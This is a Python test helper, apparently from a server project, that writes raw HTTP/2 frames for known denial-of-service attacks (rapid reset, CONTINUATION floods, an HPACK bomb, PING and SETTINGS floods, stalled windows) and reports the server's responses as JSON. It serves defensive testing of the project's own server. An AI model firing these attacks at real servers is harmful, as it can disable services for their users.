"""Raw HTTP/2 attacks on a server, for berth's tests (Debian's python3-h2 and python3-hpack).

    h2attacks.py HOST PORT ATTACK [BIG_PATH] [--tls]

Writes the frames of ATTACK (see ATTACKS) on one connection, then reads what the server answers
until it closes the connection, sends GOAWAY, or 30 s pass, and prints one JSON line:
{"goaway": code or null, "resets": {stream: code}, "statuses": {stream: status}, "closed": bool}.
ATTACK "get" is a plain request with python3-h2's state machine: a client that plays by the rules.
BIG_PATH is a path whose response is larger than 64 KiB (the stalled-window attacks).
"""
import json
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
INITIAL_WINDOW_SIZE = 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(**values):
    ids = {"initial_window_size": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def request_block(encoder, path="/", authority="localhost"):
    return encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                           (":authority", authority)])


def hpack_bomb(repeats):
    """A block of a few KiB that decodes to repeats * 4 KiB: a field added to the table, then
    referred to by its index, one byte each time."""
    block = bytearray(b"\x82\x86\x84")  # :method GET, :scheme http, :path /
    name, value = b"x-bomb", b"a" * 4000
    block += b"\x40" + bytes([len(name)]) + name
    block += b"\x7f"  # 4000 as HPACK's 7-bit prefix integer: 127, then the rest in 7-bit groups
    rest = len(value) - 127
    while rest >= 128:
        block.append((rest & 0x7F) | 0x80)
        rest >>= 7
    block.append(rest)
    block += value
    block += bytes([0x80 | 62]) * repeats
    return bytes(block)


def attack_frames(name, big_path):
    """The frames after the preface, and whether the server must answer them promptly."""
    enc = hpack.Encoder()
    if name == "rapid_reset":
        out = [settings()]
        for i in range(1000):
            sid = 2 * i + 1
            out.append(frame(HEADERS, END_HEADERS, sid, request_block(enc)))
            out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
        return out
    if name == "continuation_small":
        return [settings(), frame(HEADERS, 0, 1, b"\x82")] + \
               [frame(CONTINUATION, 0, 1, b"\x84") for _ in range(1000)]
    if name == "continuation_large":
        # 1.6 MB of header block, unless the server stops it first.
        return [settings(), frame(HEADERS, 0, 1, b"\x82")] + \
               [frame(CONTINUATION, 0, 1, b"\x00" * 16000) for _ in range(100)]
    if name == "hpack_bomb":
        return [settings(), frame(HEADERS, END_HEADERS | END_STREAM, 1, hpack_bomb(100))]
    if name == "ping_flood":
        return [settings()] + [frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(10000)]
    if name == "settings_flood":
        return [settings() for _ in range(1000)]
    if name == "even_stream":
        return [settings(), frame(HEADERS, END_HEADERS | END_STREAM, 2, request_block(enc))]
    if name == "data_idle_stream":
        return [settings(), frame(DATA, END_STREAM, 7, b"x" * 10)]
    if name == "stalled_stream":
        return [settings(initial_window_size=0),
                frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(enc, big_path))]
    if name == "stalled_connection":
        return [settings(initial_window_size=1 << 20),
                frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(enc, big_path))]
    if name == "idle":
        return [settings()]
    raise SystemExit("unknown attack: " + name)


def connect(host, port, tls):
    sock = socket.create_connection((host, port), timeout=30)
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock, server_hostname=host)
    return sock


def read_frames(sock, deadline):
    """Yields (type, flags, stream, payload) until the connection closes or the deadline."""
    buf = b""
    while time.monotonic() < deadline:
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            return
        except OSError:
            chunk = b""
        if not chunk:
            yield None
            return
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            yield kind, flags, stream, buf[9:9 + length]
            buf = buf[9 + length:]


def run_attack(host, port, name, big_path, tls):
    sock = connect(host, port, tls)
    frames = attack_frames(name, big_path)

    lock = threading.Lock()  # whole frames only: the acks below go between the attack's frames
    sock.sendall(PREFACE)

    def write():
        try:
            for f in frames:
                with lock:
                    sock.sendall(f)
        except OSError:
            pass  # the server closed the connection while the attack was being written

    # Written while the answers are read: a server that closes with frames of the attack unread
    # resets the connection, and what it sent before (its GOAWAY) must have been read by then.
    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    result = {"goaway": None, "resets": {}, "statuses": {}, "closed": False}
    dec = hpack.Decoder()
    dec.max_header_list_size = 1 << 20
    for f in read_frames(sock, time.monotonic() + 30):
        if f is None:
            result["closed"] = True
            break
        kind, flags, stream, payload = f
        if kind == SETTINGS and not flags & ACK:
            try:
                with lock:
                    sock.sendall(frame(SETTINGS, ACK, 0))
            except OSError:
                pass  # closed already: what it sent before is still to be read
        elif kind == GOAWAY:
            result["goaway"] = int.from_bytes(payload[4:8], "big")
        elif kind == RST_STREAM:
            result["resets"][str(stream)] = int.from_bytes(payload[:4], "big")
        elif kind == HEADERS:
            headers = dict(dec.decode(payload))
            result["statuses"][str(stream)] = int(headers.get(":status", headers.get(b":status")))
        if result["goaway"] is not None or (name == "stalled_stream" and result["resets"]):
            break
    sock.close()
    return result


def run_get(host, port, path, tls):
    """A request by python3-h2's rules: its status and body length."""
    sock = connect(host, port, tls)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "GET"), (":scheme", "https" if tls else "http"),
                            (":path", path), (":authority", "localhost")], end_stream=True)
    sock.sendall(conn.data_to_send())
    status, length, done = None, 0, False
    while not done:
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                status = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived):
                length += len(event.data)
                conn.acknowledge_received_data(event.flow_controlled_length, sid)
            elif isinstance(event, h2.events.StreamEnded):
                done = True
        sock.sendall(conn.data_to_send())
    conn.close_connection()
    sock.sendall(conn.data_to_send())
    sock.close()
    return {"status": status, "length": length}


def main():
    args = [a for a in sys.argv[1:] if a != "--tls"]
    tls = "--tls" in sys.argv
    host, port, name = args[0], int(args[1]), args[2]
    if name == "get":
        print(json.dumps(run_get(host, port, args[3] if len(args) > 3 else "/", tls)))
    else:
        print(json.dumps(run_attack(host, port, name, args[3] if len(args) > 3 else "/big", tls)))


if __name__ == "__main__":
    main()
